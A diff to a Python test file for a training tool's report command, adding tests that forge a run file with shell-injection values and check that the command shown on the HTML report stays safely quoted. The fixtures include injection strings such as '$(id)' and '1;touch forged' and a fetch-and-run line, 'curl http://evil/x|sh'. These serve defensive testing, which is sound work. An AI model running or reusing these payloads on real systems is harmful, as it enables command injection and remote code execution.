@@ -1,5 +1,6 @@
 """What an adapter and a checkpoint are, by hone inspect; and --json of the commands that answer and convert."""
 import fcntl
+import html
 import json
 import os
 import re
@@ -102,19 +103,53 @@ class Reports(Case):
         self.assertIn(b"zero byte", self.chat(b"a\0b\n").stderr)
         self.assertEqual(self.chat(b"Hi").returncode, 0)            # a last line need not end
 
-    def test_a_forged_run_file_puts_no_word_of_its_own_into_the_command(self):
-        self.train()
+    def command(self, change):
+        """The words that a shell makes of the command of a page, after run.json was changed."""
         file = self.out / "run.json"
         tree = json.loads(file.read_text())
-        for name in ("seed; touch /tmp/forged #", "$(id)", "<script>", "no_such_option"):
-            tree["given"][name] = "--x"
-            tree["options"][name] = "`id`"
+        change(tree)
         file.write_text(json.dumps(tree))
         self.ok("report", self.out)
-        command = re.search(r"<pre>(hone train.*?)</pre>", (self.out / "report.html").read_text(), re.S)[1]
-        self.assertIn("--learning-rate 0.01", command)
-        for word in ("touch", "$(id)", "script", "no-such", "`"):
-            self.assertNotIn(word, command)
+        text = html.unescape(re.search(r"<pre>(hone train.*?)</pre>", (self.out / "report.html").read_text(), re.S)[1])
+        self.assertTrue(text.isprintable(), text)                   # what a terminal would take for a key is not in it
+        words = subprocess.run(["bash", "-c", f'hone() {{ printf "%s\\0" "$@"; }}\n{text}'], capture_output=True, check=True, cwd=self.dir)
+        self.assertEqual(words.stderr, b"")
+        return [word.decode() for word in words.stdout.split(b"\0")[:-1]]
+
+    def test_a_forged_run_file_puts_no_word_of_its_own_into_the_command(self):
+        self.train()
+        names = ("seed; touch /tmp/forged #", "$(id)", "<script>", "no_such_option", "prompt", "gpu")
+        def forge(tree):
+            tree["given"] |= {name: "--x" for name in names}
+            tree["options"] |= {name: "`id`" for name in names}
+            tree["given"] |= {"packing": "--packing", "lora_dropout": "-", "dtype": "-", "eval_steps": "-"}
+            tree["options"] |= {"packing": "--on-finish=touch forged", "lora_dropout": "other.yaml", "dtype": "$(touch forged)", "eval_steps": "1;touch forged"}
+        words = self.command(forge)
+        self.assertIn("--learning-rate=0.01", words)
+        self.assertTrue(all(re.match("--[a-z0-9-]+=", word) for word in words[1:]), words)
+        self.assertEqual([word for word in words if re.search("touch|id|script|no-such|prompt|gpu|other|packing|dtype", word.partition("=")[2])], [])
+        self.assertFalse((self.dir / "forged").exists())
+
+    def test_a_page_shows_no_command_that_a_run_would_start(self):
+        self.train("--on-finish", "true honest")
+        for text in ("(not kept: it may have secrets)", "curl http://evil/x|sh", "touch forged"):
+            def forge(tree):
+                self.assertEqual(tree["options"]["on_finish"] == "true honest", False)
+                tree["options"]["on_finish"] = text
+                tree["given"] |= {"on-finish": "--on-finish", "config": "--config"}
+                tree["options"] |= {"on-finish": text, "config": "evil.yaml"}
+            words = self.command(forge)
+            self.assertEqual([word for word in words if "finish" in word or "config" in word], [])
+            page = (self.out / "report.html").read_text()
+            self.assertIn("Without --on-finish", page)
+            self.assertNotIn("--on-finish=", page)
+
+    def test_values_of_a_command_reach_a_shell_whole(self):
+        self.train()
+        for value in ("it's", "a b", "$(id) `id` ${HOME} !! \\", "two\nlines\ttab", "\x1b[31m\x03\x7f", "\u009b31m", "\u202etxt\u2066", "~", "*", "#x", "-x", "'\n'!\\",
+                      "\u4e2d\U0001f600", "", "\"", "\u200b\U000e0041"):
+            words = self.command(lambda tree: (tree["given"].update(sample_prompt="-"), tree["options"].update(sample_prompt=value)))
+            self.assertEqual([word.partition("=")[2] for word in words if word.startswith("--sample-prompt=")], [value])
 
     def test_rows_that_were_held_back_have_figures_of_their_own(self):
         data = self.write("rows.jsonl", *[CHAT] * 20, {"messages": [CHAT["messages"][0], {"role": "assistant", "content": "word " * 400}]})
